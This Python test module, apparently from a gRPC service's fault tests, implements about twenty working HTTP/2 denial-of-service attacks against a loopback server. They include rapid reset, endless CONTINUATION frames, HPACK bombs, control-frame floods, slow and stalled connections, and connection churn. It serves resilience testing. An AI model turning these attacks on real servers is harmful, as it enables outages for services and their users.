"""What strangers and callers can do to a server by HTTP/2 alone. Every attack is bounded in time,
goes to loopback, and ends with its connections closed.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

import grpc
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from codeq.v1 import codeq_service_pb2 as pb, codeq_service_pb2_grpc as services
from codeq.v1.task_pb2 import TASK_VIEW_FULL
from tests.faults import h2raw
from tests.faults.h2raw import PREFACE, Raw, Tally, block, call, hammer, hold, streams

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

ENQUEUE: Final = "/codeq.v1.CodeQService/Enqueue"
_LIST: Final = "/codeq.v1.CodeQService/ListTasks"
_STREAM: Final = "/codeq.v1.CodeQService/StreamClaim"
_CHECK: Final = "/grpc.health.v1.Health/Check"
QUEUE: Final = "ATTACKED"
_BIG: Final = 256 << 10


@dataclass(frozen=True, slots=True, kw_only=True)
class Target:
    """A server, a credential that is good there, and when to stop."""

    port: int
    token: str
    seconds: float
    idle: int = 5_000

    @property
    def ends(self) -> float:
        """By the monotonic clock, of an attack that begins now."""
        return time.monotonic() + self.seconds


async def rapid_reset(target: Target) -> Tally:
    """CVE-2023-44487: streams are opened and reset at once, without a limit."""
    fragment = block(ENQUEUE, target.token)

    def make(at: int) -> bytes:
        return b"".join(
            h2raw.headers(stream, fragment) + h2raw.reset(stream)
            for stream in streams(at * 100, 100)
        )

    return await hammer(target.port, target.ends, make)


async def delayed_reset(target: Target) -> Tally:
    """Whole calls, of which each is reset while it is under way."""
    fragment = block("/codeq.v1.CodeQService/Claim", target.token)
    request = pb.ClaimRequest(worker_id="w", commands=["NOTHING"])
    request.wait.FromSeconds(30)
    raw = request.SerializeToString()

    def make(at: int) -> bytes:
        new = b"".join(call(stream, fragment, raw) for stream in streams(at * 50, 50))
        old = b"".join(h2raw.reset(stream) for stream in streams((at - 1) * 50, 50) if at)
        return new + old

    return await hammer(target.port, target.ends, make, pause=0.01)


async def headers_only(target: Target) -> Tally:
    """Calls without a credential whose request never comes: 4 times 900 streams."""
    return await _headers_only(target, block(ENQUEUE))


async def headers_only_known(target: Target) -> Tally:
    """The same with a credential."""
    return await _headers_only(target, block(ENQUEUE, target.token))


async def headers_only_health(target: Target) -> Tally:
    """The same for health checks, which need no credential."""
    return await _headers_only(target, block(_CHECK))


async def _headers_only(target: Target, fragment: bytes) -> Tally:
    opening = b"".join(h2raw.headers(stream, fragment) for stream in streams(0, 900))
    return await hold(target.port, target.ends, 4, opening)


async def silent(target: Target) -> Tally:
    """200 connections that send nothing, 200 that send the preface only."""
    ends = target.ends
    nothing = asyncio.create_task(hold(target.port, ends, 200, hello=b""))
    tally = await hold(target.port, ends, 200, hello=PREFACE, polite=False)
    other = await nothing
    return Tally(tally.opened + other.opened, tally.closed_on_us + other.closed_on_us)


async def byte_by_byte(target: Target) -> Tally:
    """50 calls that come at 20 bytes a second."""
    request = pb.EnqueueRequest(task={"command": QUEUE, "payload": {"data": bytes(4_000)}})
    whole = call(1, block(ENQUEUE, target.token), request.SerializeToString())
    return await hold(target.port, target.ends, 50, whole[:200], drip=whole[200:])


async def large_metadata(target: Target) -> Tally:
    """64 KiB of headers in a call, as many calls as it takes."""
    noise = {f"x-noise-{i}": "x" * 3_000 for i in range(21)}
    fragment = block(ENQUEUE, **noise)
    first, rest = fragment[:16_000], fragment[16_000:]

    def make(at: int) -> bytes:
        (stream,) = streams(at, 1)
        parts = [rest[i : i + 16_000] for i in range(0, len(rest), 16_000)]
        frames = [ContinuationFrame(stream, part).serialize() for part in parts[:-1]]
        last = ContinuationFrame(stream, parts[-1], flags=["END_HEADERS"]).serialize()
        return h2raw.headers(stream, first, "END_STREAM") + b"".join(frames) + last

    return await hammer(target.port, target.ends, make)


async def continuations(target: Target) -> Tally:
    """CVE-2024-27316 and its like: a block of headers that never ends."""
    begun = HeadersFrame(1, block(ENQUEUE)).serialize()
    literal = b"\x10\x01x\x7f" + _varint(256 - 127) + b"v" * 256
    more = (
        ContinuationFrame(1, literal * 16).serialize() * 4 + ContinuationFrame(1).serialize() * 64
    )
    return await hammer(target.port, target.ends, lambda at: more if at else begun)


async def hpack_bomb(target: Target) -> Tally:
    """One large header in the dynamic table, then thousands of references of a byte to it."""
    return await hammer(target.port, target.ends, _bomb())


async def rude_bomb(target: Target) -> Tally:
    """The same of one who never acknowledges the server's settings, ten calls of it. grpcio does
    not keep to its limit then: docs/operations.md.
    """
    return await hammer(
        target.port, target.ends, _bomb(), connections=1, polite=False, pause=target.seconds / 10
    )


def _bomb() -> Callable[[int], bytes]:
    value = b"v" * 3_900
    stored = b"\x40\x01x\x7f" + _varint(len(value) - 127) + value
    bomb = block(ENQUEUE) + b"\xbe" * 12_000

    def make(at: int) -> bytes:
        fragment = bomb if at else block(ENQUEUE) + stored
        return h2raw.headers(streams(at, 1)[0], fragment, "END_HEADERS", "END_STREAM")

    return make


def _varint(value: int) -> bytes:
    found = bytearray()
    while value >= 128:
        found.append(value % 128 + 128)
        value //= 128
    return bytes([*found, value])


async def pings(target: Target) -> Tally:
    """PING, PING, PING."""
    many = PingFrame(0, opaque_data=b"12345678").serialize() * 1_000
    return await hammer(target.port, target.ends, lambda _: many)


async def deaf_pings(target: Target) -> Tally:
    """The same from one that never reads the answers."""
    many = PingFrame(0, opaque_data=b"12345678").serialize() * 5_000
    return await hold(target.port, target.ends, 20, many, deaf=True)


async def settings_flood(target: Target) -> Tally:
    """SETTINGS, each of which asks for an answer."""
    changed = {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}
    many = SettingsFrame(0, settings=changed).serialize() * 1_000
    return await hammer(target.port, target.ends, lambda _: many)


async def window_updates(target: Target) -> Tally:
    """WINDOW_UPDATE of one byte."""
    many = WindowUpdateFrame(0, window_increment=1).serialize() * 1_000
    return await hammer(target.port, target.ends, lambda _: many)


async def priorities(target: Target) -> Tally:
    """PRIORITY of streams that nobody opened."""
    many = b"".join(
        PriorityFrame(stream, depends_on=stream + 2, stream_weight=9).serialize()
        for stream in streams(0, 1_000)
    )
    return await hammer(target.port, target.ends, lambda _: many)


async def empty_data(target: Target) -> Tally:
    """CVE-2019-9518: DATA without data, for ever."""
    begun = h2raw.headers(1, block(ENQUEUE, target.token))
    many = DataFrame(1, b"").serialize() * 1_000
    return await hammer(target.port, target.ends, lambda at: many if at else begun)


async def bad_tokens(target: Target) -> Tally:
    """Calls with a token that nobody has."""
    fragment = block(ENQUEUE, "nobodys.token")

    def make(at: int) -> bytes:
        return b"".join(call(stream, fragment, b"") for stream in streams(at * 20, 20))

    return await hammer(target.port, target.ends, make, pause=0.002)


async def churn(target: Target) -> Tally:
    """Connections opened and closed at once."""
    ends, tally = target.ends, Tally()
    while time.monotonic() < ends:
        with contextlib.suppress(OSError, TimeoutError):
            raw = await Raw.open(target.port, tally)
            await raw.close()
    return tally


async def idle(target: Target) -> Tally:
    """Thousands of connections that do nothing."""
    return await hold(target.port, target.ends, target.idle)


async def unread_streams(target: Target) -> Tally:
    """20 workers whose streams have work to come and a window of no bytes."""
    await _enqueue_big(target, 100)
    request = pb.StreamClaimRequest(worker_id="w", commands=[QUEUE], max_outstanding=1_000)
    request.disconnect_policy = pb.DISCONNECT_POLICY_RELEASE
    return await _unread(target, _STREAM, request.SerializeToString(), calls=5)


async def unread_replies(target: Target) -> Tally:
    """100 calls with large replies and a window of no bytes."""
    await _enqueue_big(target, 4)
    request = pb.ListTasksRequest(filter={"command": QUEUE}, page_size=4)
    request.view = TASK_VIEW_FULL
    return await _unread(target, _LIST, request.SerializeToString(), calls=25)


async def _unread(target: Target, path: str, request: bytes, calls: int) -> Tally:
    fragment = block(path, target.token)
    hello = PREFACE + h2raw.settings(INITIAL_WINDOW_SIZE=0)
    asking = b"".join(call(stream, fragment, request) for stream in streams(0, calls))
    return await hold(target.port, target.ends, 4, asking, hello=hello)


async def _enqueue_big(target: Target, count: int) -> None:
    async with grpc.aio.insecure_channel(f"127.0.0.1:{target.port}") as channel:
        stub = services.CodeQServiceStub(channel)
        request = pb.EnqueueRequest(task={"command": QUEUE, "payload": {"data": bytes(_BIG)}})
        metadata = (("authorization", f"Bearer {target.token}"),)
        for _ in range(count):
            await stub.Enqueue(request, metadata=metadata, timeout=20)


async def flood(target: Target) -> str:
    """One caller with 100 calls under way at any time."""
    ends, codes = target.ends, dict[str, int]()
    request = pb.EnqueueRequest(task={"command": QUEUE})
    metadata = (("authorization", f"Bearer {target.token}"),)

    async def one(stub: services.CodeQServiceStub) -> None:
        while time.monotonic() < ends:
            sent = stub.Enqueue(request, metadata=metadata, timeout=20)
            code = (await sent.code()).name
            codes[code] = codes.get(code, 0) + 1

    channel = grpc.aio.insecure_channel(f"127.0.0.1:{target.port}")
    async with channel, asyncio.TaskGroup() as group:
        for _ in range(100):
            group.create_task(one(services.CodeQServiceStub(channel)))
    return ", ".join(f"{count} {code}" for code, count in sorted(codes.items()))


ATTACKS: Final[tuple[Callable[[Target], Awaitable[object]], ...]] = (
    *(rapid_reset, delayed_reset, headers_only, headers_only_known, headers_only_health),
    *(
        silent,
        byte_by_byte,
        large_metadata,
        continuations,
        hpack_bomb,
        rude_bomb,
        pings,
        deaf_pings,
    ),
    *(settings_flood, window_updates, priorities, empty_data, bad_tokens, churn),
    *(unread_streams, unread_replies, flood, idle),
)
